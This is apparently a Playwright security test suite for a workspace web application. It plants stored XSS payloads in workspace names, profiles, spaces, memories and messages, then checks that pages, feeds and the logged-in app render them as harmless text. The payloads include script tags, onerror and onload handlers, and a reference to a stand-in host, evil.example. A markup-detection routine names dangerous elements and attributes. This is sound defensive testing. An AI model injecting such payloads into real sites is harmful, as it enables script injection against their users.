/**
 * Everything that people write, written with malice, on every screen that shows it: public pages, their machine forms and
 * the application. Nothing runs, nothing is asked elsewhere, and the security policy is never even needed.
 */
import type { Browser, Page } from '@playwright/test';
import { newId } from '#shared/ids.ts';
import { LIMITS } from '#shared/constants.ts';
import { pathTo } from '#shared/pages.ts';
import { STORED_XSS } from '../support/stored-xss.ts';
import { type Person, sitDown } from '../support/person.ts';
import { takePerson } from '../support/ready-people.ts';
import { expect, test } from './support/stories.ts';
import { isOfTheRun } from './support/visit.ts';

const AT_ONCE = 4;
const WORKSPACE_NAME = '</title><script>alert(1)</script>"><img src=//evil.example/w onerror=alert(1)>';

/** NUL is refused by the API, as everywhere; the rest of such a text is kept. */
const payloads = STORED_XSS.map((text) => text.replaceAll('\u0000', ''));
const line = (text: string, most: number) => text.replace(/\s+/g, ' ').slice(0, most);

interface Trap {
  owner: Person;
  spaces: string[];
  threads: string[];
  memoryIds: string[];
}

async function inTurns<T>(
  items: readonly T[],
  work: (item: T, index: number) => Promise<void>,
): Promise<void> {
  for (let start = 0; start < items.length; start += AT_ONCE)
    await Promise.all(items.slice(start, start + AT_ONCE).map((item, index) => work(item, start + index)));
}

/** A workspace in which every text is one of the list. The first space and thread hold all memories and messages. */
async function setTrap(owner: Person): Promise<Trap> {
  const { api, workspaceId, slug } = owner;
  await api('workspace.update', {
    params: { workspaceId },
    body: { name: WORKSPACE_NAME, description: payloads.slice(0, 12).join(' ') },
  });
  await api('auth.update', {
    body: { forename: '<img src=x onerror=alert(1)>', surname: '<svg onload=alert(1)>' },
  });
  const trap: Trap = { owner, spaces: [], threads: [], memoryIds: [] };
  const spaceIds = payloads.map(() => newId('space'));
  const threadIds = payloads.map(() => newId('thread'));
  const firstSpace = spaceIds[0] ?? newId('space');
  const firstThread = threadIds[0] ?? newId('thread');
  await inTurns(payloads, async (text, n) => {
    const [id, threadId] = [spaceIds[n] ?? newId('space'), threadIds[n] ?? newId('thread')];
    const name = line(text, LIMITS.name);
    await api('space.create', {
      body: { id, workspaceId, name, description: text, slug: `s-${n}`, visibility: 'public' },
    });
    await api('thread.create', { body: { id: threadId, workspaceId, name, visibility: 'public' } });
    trap.spaces[n] = pathTo('public_space', { workspace_slug: slug, space_slug: `s-${n}` });
    trap.threads[n] = pathTo('public_thread', { workspace_slug: slug, thread_id: threadId });
  });
  await inTurns(payloads, async (text, n) => {
    const { result: memory } = await api('memory.create', {
      body: {
        workspaceId,
        title: line(text, LIMITS.title),
        description: text,
        notes: text,
        tags: [line(text.replaceAll(',', ' '), LIMITS.tag)],
      },
    });
    trap.memoryIds[n] = memory.id;
    await api('space_memory.create', { body: { workspaceId, spaceId: firstSpace, memoryId: memory.id } });
    await api('message.create', { params: { workspaceId, threadId: firstThread }, body: { content: text } });
  });
  return trap;
}

/** What went wrong on the pages of one browser profile. */
async function watched(browser: Browser, origin: string, serviceWorkers: 'allow' | 'block') {
  const context = await browser.newContext({ baseURL: origin, serviceWorkers });
  const page = await context.newPage();
  const faults: string[] = [];
  page.on('dialog', (dialog) => {
    faults.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  // A refusal by the policy is a fault too: the text had become markup.
  page.on('console', (message) => {
    if (['error', 'warning'].includes(message.type()) && !isOfTheRun(message.text()))
      faults.push(message.text());
  });
  page.on('pageerror', (error) => faults.push(error.message));
  page.on('request', (request) => {
    if (!/^(?:data|blob|about):/.test(request.url()) && !request.url().startsWith(origin))
      faults.push(request.url());
  });
  return { context, page, faults };
}

/** Elements and attributes that no text may have become. */
async function markup(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const found: string[] = [];
    for (const element of document.querySelectorAll('#root *, [role=dialog] *')) {
      if (/^(?:script|iframe|object|embed|base|meta|link|math|form)$/i.test(element.localName))
        if (!(element instanceof HTMLFormElement && new URL(element.action).origin === location.origin))
          found.push(element.outerHTML.slice(0, 120));
      for (const { name, value } of element.attributes) {
        if (name.startsWith('on') || name === 'srcdoc') found.push(`${element.localName} ${name}`);
        if (
          /^(?:href|src|action|formaction|xlink:href)$/.test(name) &&
          /^\s*(?:javascript|data:text|vbscript)/i.test(value)
        )
          found.push(`${element.localName} ${name}=${value}`);
      }
      if (element instanceof HTMLImageElement && new URL(element.src).origin !== location.origin)
        found.push(element.outerHTML);
    }
    return found;
  });
}

async function expectHarmless(page: Page, faults: string[]): Promise<void> {
  const where = page.url();
  expect([where, await markup(page)]).toEqual([where, []]);
  expect([where, faults]).toEqual([where, []]);
}

test('hostile text stays text on public pages, in their machine forms and in the application @long', async ({
  browser,
  ownServer,
}) => {
  const { url } = ownServer;
  const trap = await setTrap(takePerson(ownServer));
  const { owner, spaces, threads } = trap;
  const { slug } = owner;
  // The worker hands public pages through as the server sends them.
  const visitor = await watched(browser, url, 'block');

  await test.step('public pages', async () => {
    const { page, faults } = visitor;
    const paths = [
      `/p/${slug}`,
      `/p/${slug}?page=2`,
      spaces[0] ?? '',
      `${spaces[0]}?q=press`,
      threads[0] ?? '',
      '/explore',
      ...spaces.slice(1),
      ...threads.slice(1, 8),
      ...trap.memoryIds.map((id) => `${spaces[0]}/${id}`),
    ];
    for (const path of paths) {
      const answer = await page.goto(path, { waitUntil: 'load' });
      expect([path, answer?.status()]).toEqual([path, 200]);
      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
      await expectHarmless(page, faults);
    }
    // What a visitor typed into the address comes back as text too.
    for (const text of payloads.slice(0, 8)) {
      await page.goto(`${spaces[0]}?q=${encodeURIComponent(text)}`);
      await expectHarmless(page, faults);
      await page.goto(`/request-access?registered=${encodeURIComponent(text)}`);
      await expectHarmless(page, faults);
    }
  });

  await test.step('with its links followed inside the page', async () => {
    const { page, faults } = visitor;
    await page.goto(`/p/${slug}`);
    for (const link of await page.getByRole('main').getByRole('link').all()) await link.focus();
    await page.getByRole('main').getByRole('heading', { level: 3 }).first().getByRole('link').click();
    await expect(page).toHaveURL(/\/spaces\/p\//);
    await expectHarmless(page, faults);
    await page.getByRole('link', { name: 'Report' }).click();
    await expect(page.getByRole('dialog')).toBeVisible();
    await expectHarmless(page, faults);
  });

  await test.step('feeds, Markdown, previews', async () => {
    const { page, faults } = visitor;
    for (const path of [spaces[0] ?? '', ...spaces.slice(1, 8)]) {
      const atom = await (await fetch(`${url}${path}/feed.xml`)).text();
      const json = await (await fetch(`${url}${path}/feed.json`)).json();
      for (const form of [`${path}/feed.xml`, `${path}/feed.json`, `${path}.md`, `/og${path}.png`]) {
        const answer = await fetch(url + form);
        expect([form, answer.status]).toEqual([form, 200]);
        expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
        expect(answer.headers.get('content-type')).not.toContain('html');
      }
      // A reader that draws a feed's fields as HTML, without any policy of its own.
      await page.goto('about:blank');
      await page.evaluate(
        ({ text, items }) => {
          const feed = new DOMParser().parseFromString(text, 'application/xml');
          if (feed.querySelector('parsererror')) throw new Error(feed.documentElement.textContent);
          const fields = [...feed.querySelectorAll('title, summary, content, subtitle')];
          for (const html of [...fields.map(({ textContent }) => textContent ?? ''), ...items])
            document.body.append(Object.assign(document.createElement('p'), { innerHTML: html }));
          if (feed.querySelector('script, img, svg, iframe')) throw new Error('Markup inside the feed');
        },
        { text: atom, items: json.items.map((item: { content_html: string }) => item.content_html) },
      );
      expect(await page.locator('script, img, svg, iframe, form, [onerror]').count()).toBe(0);
      expect(json.items).toHaveLength(path === spaces[0] ? Math.min(payloads.length, 50) : 0);
      expect(faults).toEqual([]);
    }
  });
  await visitor.context.close();

  const inside = await watched(browser, url, 'allow');
  await test.step('the application of a member', async () => {
    const { page, faults, context } = inside;
    await sitDown(context, url, owner);
    const drawn = ['', '/spaces', '/spaces/s-0', '/spaces/s-7', '/threads', '/capsule', '/tags', '/settings'];
    for (const path of drawn) {
      await page.goto(`/${slug}${path}`);
      await expect(page.locator('main h1').first()).toBeAttached();
      await expectHarmless(page, faults);
    }
    await page.goto(`/${slug}`);
    await expect(page.getByRole('link', { name: '<script>alert(1)</script>' }).first()).toBeAttached();
    for (const id of trap.memoryIds) {
      await page.goto(`/${slug}?memory=${id}`);
      await expect(page.getByRole('textbox', { name: 'Title' })).toBeVisible();
      await expectHarmless(page, faults);
    }
    await page.goto(`/${slug}/threads/${threads[0]?.split('/').at(-1)}`);
    await expect(page.getByText("'-alert(1)-'").first()).toBeVisible();
    await expectHarmless(page, faults);
    await page.keyboard.press('ControlOrMeta+k');
    await page.getByRole('combobox').fill('alert');
    await expect(page.getByRole('option').first()).toBeVisible();
    await expectHarmless(page, faults);
  });
  await inside.context.close();
});

test('the browser itself refuses text as HTML and foreign scripts, on pages and in the application', async ({
  page,
  context,
  server,
}) => {
  const person = takePerson(server);
  await sitDown(context, server.url, person);
  for (const path of ['/', '/docs', `/${person.slug}`, '/login']) {
    await page.goto(path);
    await expect(page.locator('#root > *').first()).toBeAttached();
    const refused = await page.evaluate(() => {
      const attempts: Record<string, () => unknown> = {
        html: () => (document.createElement('div').innerHTML = '<img src=x>'),
        parse: () => new DOMParser().parseFromString('<p>', 'text/html'),
        worker: () => new Worker('https://evil.example/w.js'),
        script: () => (document.createElement('script').src = '/v1/openapi.json'),
        text: () => (document.createElement('script').textContent = 'alert(1)'),
      };
      return Object.entries(attempts).flatMap(([name, attempt]) => {
        try {
          attempt();
          return [];
        } catch {
          return [name];
        }
      });
    });
    expect([path, refused.sort()]).toEqual([path, ['html', 'parse', 'script', 'text', 'worker']]);
  }
});
